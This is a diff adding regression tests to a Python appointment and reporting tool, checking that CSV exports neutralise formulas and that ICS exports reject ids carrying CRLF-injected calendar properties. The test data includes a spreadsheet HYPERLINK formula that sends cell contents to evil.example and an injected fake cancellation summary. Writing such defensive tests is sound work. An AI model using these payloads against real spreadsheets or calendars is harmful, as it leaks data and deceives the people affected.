@@ -335,3 +335,65 @@ def test_every_command_under_test_works_on_a_valid_folder(run) -> None:
     for args in COMMANDS:
         result = run(*args)
         assert result.exit_code == 0, f"mediatool {' '.join(args)}:\n{result.output}"
+
+
+# ---- issue 20 #8: CSV formula injection ---------------------------------------------------
+
+@given(st.text(min_size=1, max_size=40))
+@settings(max_examples=200, deadline=None)
+def test_no_csv_cell_can_start_a_formula(text: str) -> None:
+    from mediatool.formats.report import neutralise_cell
+    cell = neutralise_cell(text)
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert cell.endswith(text)
+
+
+@pytest.mark.parametrize("dialect", ["excel", "excel-fr"])
+def test_a_formula_in_the_catalogue_is_text_in_report_csv(run, folder: Path, dialect: str) -> None:
+    import csv
+    import io
+    team = folder / "catalogue" / "team.yaml"
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
+    team.write_text(team.read_text(encoding="utf-8").replace(
+        "service: Service de test", "service: '" + hostile.replace("'", "''") + "'"),
+        encoding="utf-8")
+    result = run("report", "--month", "2026-11", "--format", "csv", "--csv-dialect", dialect)
+    assert result.exit_code == 0, result.output
+    cells = [c for row in csv.reader(io.StringIO(result.output.lstrip("\ufeff")),
+                                     delimiter=";" if dialect == "excel-fr" else ",")
+             for c in row]
+    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
+    assert any(c == "'" + hostile for c in cells) or hostile not in result.output
+
+
+# ---- issue 20 #7: ICS property injection through a record id ----------------------------
+
+def test_an_injected_id_never_adds_calendar_properties(run, folder: Path, tmp_path: Path) -> None:
+    booked = run("book", "--mediator", "camille", "--kind", "demarche", "--procedure",
+                 "caf-prime-activite", "--person", "Alice A.", "--at", "2026-12-08 14:00",
+                 "--format", "json")
+    assert booked.exit_code == 0, booked.stderr
+    good = re.search(r'"id": "(A-[0-9A-Z]+)"', booked.output).group(1)
+    month = folder / "records" / "appointments" / "2026-12.yaml"
+    hostile = 'A-EVIL1\\r\\nX-INJECTED:yes\\r\\nSUMMARY:Rendez-vous annulé, ne venez pas'
+    month.write_text(month.read_text(encoding="utf-8").replace(f"id: {good}", f'id: "{hostile}"'),
+                     encoding="utf-8")
+    checked = run("check")
+    assert checked.exit_code != 0 and "invalide" in checked.output + checked.stderr
+    out = tmp_path / "ics"
+    exported = run("export-ics", "--out", str(out))
+    assert exported.exit_code != 0
+    for path in out.glob("*.ics") if out.exists() else []:
+        assert b"X-INJECTED" not in path.read_bytes()
+
+
+def test_a_slug_with_a_trailing_newline_is_refused() -> None:
+    from mediatool.core.fields import SLUG_PATTERN, _compiled
+    assert _compiled(SLUG_PATTERN).fullmatch("lea")
+    assert not _compiled(SLUG_PATTERN).fullmatch("lea\n")
+
+
+def test_a_line_break_inside_a_property_never_starts_another() -> None:
+    from mediatool.formats.ics import appointment_uid, fold
+    assert fold("SUMMARY:a\r\nX-INJECTED:yes").count(b"\r\n") == 1
+    assert b"\r\n" not in appointment_uid("A-X\r\nX-INJECTED:yes").encode()
